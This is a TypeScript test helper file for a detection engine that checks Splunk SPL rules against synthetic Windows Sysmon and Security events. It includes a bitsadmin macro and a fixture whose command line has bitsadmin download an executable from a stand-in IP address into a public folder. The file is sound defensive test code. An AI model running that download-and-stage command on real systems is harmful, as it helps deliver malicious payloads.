/** SPL rules and Windows events built in tests: a query with security_content-like macros, a Sysmon or Security event. */
import type { Diagnostic } from '../src/model/diagnostic.js';
import type { MacroDefinition, SourceContext } from '../src/model/artifact.js';
import type { NormalizedEvent } from '../src/model/event.js';
import type { ParsedRule } from '../src/model/rule.js';
import { readEventText } from '../src/events/read.js';
import { normalizeEvent } from '../src/events/normalize.js';
import { Hunt } from '../src/engine/hunt.js';
import { parseQuery } from './parse.js';
import { processRule } from './engine.js';

const MACROS: Array<[string, string, string[]?]> = [
  ['sysmon', 'sourcetype=XmlWinEventLog:Microsoft-Windows-Sysmon/Operational'],
  [
    'wineventlog_security',
    'eventtype=wineventlog_security OR Channel=security OR source=XmlWinEventLog:Security',
  ],
  [
    'process_bitsadmin',
    '(Processes.process_name=bitsadmin.exe OR Processes.original_file_name=bitsadmin.exe)',
  ],
  ['security_content_summariesonly', 'summariesonly=false allow_old_summaries=true fillnull_value=null'],
  ['security_content_ctime', 'convert timeformat="%Y-%m-%dT%H:%M:%S" ctime($field$)', ['field']],
];

function context(): SourceContext {
  const macros = new Map<string, MacroDefinition>();
  for (const [name, definition, args = []] of MACROS)
    macros.set(args.length ? `${name}(${args.length})` : name, {
      type: 'macro',
      name,
      args,
      definition,
      path: 'm.yml',
    });
  return { macros, dataSources: new Map() };
}

let rules = 0;

/** An SPL rule: the query parsed with the macros above (and those the project knows), no logsource of its own. */
export function splRule(query: string): ParsedRule {
  const base = processRule('sel:\n  Image: x\ncondition: sel');
  const id = `00000000-0000-4000-8000-${String(++rules).padStart(12, '0')}`;
  return {
    ...base,
    rule: { ...base.rule, id, language: 'spl', context: {} },
    query: parseQuery('spl', query, undefined, context()),
  };
}

let records = 5000;

/** A Windows event as SigmaHQ's JSON twins write it, normalized: fields, views, raw XML. */
export function windowsEvent(
  provider: string,
  channel: string,
  eventId: number,
  data: Record<string, string | number>,
  seconds = 0,
): NormalizedEvent {
  const time = new Date(Date.UTC(2026, 10, 29, 10, 0, seconds)).toISOString();
  const event = {
    Event: {
      System: {
        Provider: { '#attributes': { Name: provider } },
        EventID: eventId,
        TimeCreated: { '#attributes': { SystemTime: time } },
        EventRecordID: ++records,
        Channel: channel,
        Computer: 'ws01.example.org',
      },
      EventData: data,
    },
  };
  const diagnostics: Diagnostic[] = [];
  const [record] = readEventText(JSON.stringify(event), 'test.json', diagnostics);
  return normalizeEvent(record);
}

/** A Sysmon process creation (event 1) of bitsadmin, with fields replaced or added. */
export function sysmonProcess(data: Record<string, string | number> = {}, seconds = 0): NormalizedEvent {
  return windowsEvent(
    'Microsoft-Windows-Sysmon',
    'Microsoft-Windows-Sysmon/Operational',
    1,
    {
      ProcessId: 6700,
      Image: 'C:\\Windows\\System32\\bitsadmin.exe',
      OriginalFileName: 'bitsadmin.exe',
      CommandLine:
        'bitsadmin /transfer job1 /download /priority high http://203.0.113.7/p.exe C:\\Users\\Public\\p.exe',
      User: 'EXAMPLE\\alice',
      ParentImage: 'C:\\Windows\\System32\\cmd.exe',
      ParentCommandLine: 'cmd.exe',
      ...data,
    },
    seconds,
  );
}

/** The positions of the events an SPL rule fires on (every firing's events, in order); it must be evaluable. */
export function splFires(query: string, events: NormalizedEvent[]): number[] {
  const hunt = new Hunt([splRule(query)]);
  if (hunt.notEvaluable.length) throw new Error(`not evaluable: ${hunt.notEvaluable[0].reason}`);
  events.forEach((e) => hunt.push(e));
  const hits = hunt.finish().hits;
  return hits.flatMap((h) => h.events.map((o) => events.findIndex((e) => e.record.origin === o)));
}

/** Why the engine refuses an SPL rule, or undefined when it takes it. */
export function splRefusal(query: string): string | undefined {
  return new Hunt([splRule(query)]).notEvaluable[0]?.reason;
}
